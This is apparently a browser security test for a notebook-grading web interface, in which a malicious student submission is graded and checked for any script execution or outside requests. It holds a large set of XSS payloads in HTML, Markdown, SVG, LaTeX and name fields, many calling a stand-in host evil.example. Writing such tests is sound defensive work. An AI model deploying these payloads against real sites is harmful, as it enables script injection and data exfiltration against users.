"""An instructor opens in formgrader what somebody handed in who means harm."""

from __future__ import annotations

import base64
import json
import sqlite3
from collections.abc import Iterator
from contextlib import closing

import pytest

pytest.importorskip("playwright")
from playwright.sync_api import Page, expect

from autograder.course.classroom import Classroom
from autograder.course.people import Person
from autograder.course.release import release
from autograder.course.sample import hand_in, sample_class
from autograder.gradebook.roster import add_people
from autograder.grading.classes.grade_class import grade_class
from tests.browser.course_copy import LAB, copy_course, students_python  # noqa: F401
from tests.browser.jupyter import jupyter
from tests.browser.test_instructor import formgrader, row_of

WORK, EVIL = "09-softmax", "http://evil.example"
RUN = "top.ran=1;alert(1)"
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script></svg>"
INLINE = base64.b64encode(SVG.encode()).decode()
PAGE = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()
HTML = [
    f"<script>{RUN}</script>",
    f"<script src='{EVIL}/a.js'></script>",
    f"<img src=x onerror='{RUN}'>",
    f"<img src='{EVIL}/beacon.png'>",
    f"<picture><source srcset='{EVIL}/b.png'><img></picture>",
    SVG,
    f"<svg/onload={RUN}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror='{RUN}'>",
    f"<iframe src='{EVIL}/frame'></iframe><iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<object data='data:text/html;base64,{PAGE}'></object><embed src='{EVIL}/e'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/gone'>",
    f"<base href='{EVIL}/'><link rel=stylesheet href='{EVIL}/s.css'>",
    f"<style>@import '{EVIL}/i.css'; body {{display: none; background: url({EVIL}/bg)}}</style>",
    f"<div style=\"position:fixed;inset:0;z-index:9999;background:url('{EVIL}/div')\">x</div>",
    f"<video src='{EVIL}/v' poster='{EVIL}/p' autoplay onerror='{RUN}'></video>",
    f"<details open ontoggle='{RUN}'>x</details><input autofocus onfocus='{RUN}'>",
    f"<a id=evil href='javascript:{RUN}'>click</a><a ping='{EVIL}/ping' href='#x'>click</a>",
    f"<form action='{EVIL}/f'><button>Full credit</button></form>",
    "</div></div></div></pre></textarea><!-- <plaintext>",
]
MARKDOWN = [
    f"[click](javascript:{RUN})",
    f"[click](  JaVa\tScript:{RUN} 'title')",
    f"[click](&#106;avascript:{RUN})",
    f"[click](data:text/html;base64,{PAGE})",
    f"[click][a]\n\n[a]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"![x]({EVIL}/picture.png)",
    f"![x][p]\n\n[p]: {EVIL}/reference.png",
    f"![x](data:image/svg+xml;base64,{INLINE})",
    "![x](attachment:drawn.svg) ![x](attachment:nowhere.png) ![x](attachment:a.png)",
    f"$\\href{{javascript:{RUN}}}{{x}} \\require{{html}} \\style{{background:url({EVIL}/t)}}{{x}}$",
    f"```mermaid\ngraph TD; A[<img src=x onerror='{RUN}'>]\n```",
    f"`<` <script\n>{RUN}</script\n>",
    f"\\`<img src=x onerror='{RUN}'>\\`",
    f"```\n``` <script>{RUN}</script>",
    f"~~~&\n~~~\n<script>{RUN}</script>",
    f"$$<img src=x onerror='{RUN}'>$$",
    f"| a |\n|---|\n| <script>{RUN}</script> |",
]
SHOWN = ["text/html", "text/markdown", "text/latex", "image/svg+xml", "application/javascript"]


def hostile(released: bytes) -> bytes:
    """Return the released notebook with all of this in Markdown, attachments and outputs."""
    notebook = json.loads(released)
    made = []
    for number, text in enumerate([*HTML, *MARKDOWN]):
        cell = {"cell_type": "markdown", "id": f"own-{number}", "metadata": {}, "source": text}
        cell["attachments"] = {
            "drawn.svg": {"image/svg+xml": INLINE},
            f"a.png\" onerror='{RUN}'": {"image/png": f'"><script>{RUN}</script>'},
        }
        made += [cell, {**cell, "cell_type": "raw", "id": f"raw-{number}"}]
        made[-1].pop("attachments")
    texts = json.dumps([*HTML, *MARKDOWN])
    source = (
        "import json\nfrom IPython.display import display\n"
        f"for text in json.loads({texts!r}):\n    print(text)\n"
        f"    display({{kind: text for kind in {SHOWN!r}}}, raw=True)\n"
        f"    for kind in {SHOWN!r}:\n        display({{kind: text, text: text}}, raw=True)\n"
        f"display({{'image/png': '\"><script>{RUN}</script>'}}, raw=True)\n"
        "raise type(text, (Exception,), {})(text)"
    )
    code = {"cell_type": "code", "id": "shows", "metadata": {}, "source": source}
    made.append({**code, "execution_count": None, "outputs": []})
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            cell["metadata"]["nbgrader"]["grade_id"] += "</script><script>alert(1)</script>"
            break
    notebook["cells"][3:3] = made
    notebook["metadata"]["title"] = notebook["metadata"]["kernelspec"]["name"] = HTML[0]
    return json.dumps(notebook).encode()


@pytest.fixture(scope="module")
def classroom(tmp_path_factory) -> Classroom:
    """A graded class of an honest student and one who means harm, by name too."""
    course = copy_course(tmp_path_factory.mktemp("hostile") / "course")
    classroom = Classroom(course.root / "classroom")
    (assignment,) = course.select([WORK])
    release(course, classroom, assignment)
    papers = sample_class(course, classroom, assignment)
    hand_in(classroom, assignment, [paper for paper in papers if paper.student == "ada"])
    place = classroom.submission("eve", WORK)
    place.mkdir(parents=True)
    released = classroom.root / "release" / WORK / assignment.notebook.name
    (place / assignment.notebook.name).write_bytes(hostile(released.read_bytes()))
    name = f"<img src={EVIL}/name onerror={RUN}>"
    add_people(classroom, [Person("eve", first=name, last=name), Person("ada", "Ada", "Okafor")])
    outcome = grade_class(course, classroom, [assignment], workers=0)
    assert {one.student: one.refused for one in outcome.summaries} == {"ada": "", "eve": ""}
    return classroom


@pytest.fixture(scope="module")
def lab(browser, classroom: Classroom, students_python: dict) -> Iterator[str]:  # noqa: F811
    """JupyterLab with nbgrader's panels."""
    root = classroom.root.parent
    with jupyter(LAB, root, root.parent / "state", news=False, **students_python) as address:
        yield address


def number_of(classroom: Classroom, student: str) -> str:
    """Return formgrader's number of a student's notebook."""
    query = (
        "SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a "
        "ON n.assignment_id = a.id WHERE a.student_id = ?"
    )
    with closing(sqlite3.connect(classroom.gradebook.file)) as database:
        return database.execute(query, (student,)).fetchone()[0]


def test_nothing_of_a_submission_runs_or_is_fetched_in_formgrader(
    lab: str, page: Page, classroom: Classroom
):
    """Whatever it wrote, drew, attached and called itself; and the page still takes marks."""
    asked: list[str] = []
    ran: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("popup", lambda popup: ran.append(f"opened {popup.url}"))
    page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
    page.route(lambda url: not url.startswith(lab), lambda route: route.abort())

    def elsewhere() -> set[str]:
        return {url for url in asked if not url.startswith((lab, "data:", "blob:"))}

    page.goto(f"{lab}/formgrader/submissions/{number_of(classroom, 'ada')}/")
    expect(page.locator("#softmax-rows-sum-to-one")).to_be_visible()
    usual = elsewhere()  # formgrader's own, of a content delivery network

    address = f"{lab}/formgrader/submissions/{number_of(classroom, 'eve')}/"
    page.goto(address)
    mark = page.locator("#softmax-rows-sum-to-one")
    expect(mark).to_have_attribute("placeholder", "0")
    links = page.locator("#notebook-container a")
    schemes = set(links.evaluate_all("links => links.map(link => link.protocol)"))
    assert schemes <= {"http:", "https:", "mailto:", "attachment:"}
    for element in ("iframe", "object", "embed", "meta[http-equiv]", "form", "svg", "video"):
        assert page.locator(f"#notebook-container {element}").count() == 0, element
    page.mouse.wheel(0, 20_000)
    page.locator(".glyphicon-eye-open").first.click()
    page.wait_for_timeout(1500)  # longer than a refresh or a timer of theirs would take
    with page.expect_response(lambda answer: "/api/grade/" in answer.url):
        mark.press_sequentially("1.5")
        mark.blur()

    assert page.url.partition("?")[0] == address
    assert page.evaluate("window.ran") is None and ran == []
    assert elsewhere() <= usual
    assert not [url for url in asked if "evil" in url]


def test_a_student_s_name_is_text_in_every_table_of_formgrader(lab: str, page: Page):
    """A name is what somebody calls themselves on the platform."""
    ran: list[str] = []
    page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: "evil" in request.url and ran.append(request.url))
    frame = formgrader(page, lab)
    row_of(frame, WORK).locator(".num-submissions a").click()
    expect(frame.locator("tr").filter(has_text="Okafor, Ada")).to_be_visible()
    for table in ("manage_students", "manage_students/eve", f"gradebook/{WORK}/softmax"):
        page.goto(f"{lab}/formgrader/{table}")
        expect(page.locator("table tbody tr").first).to_be_visible()
    assert page.evaluate("window.ran") is None and ran == []
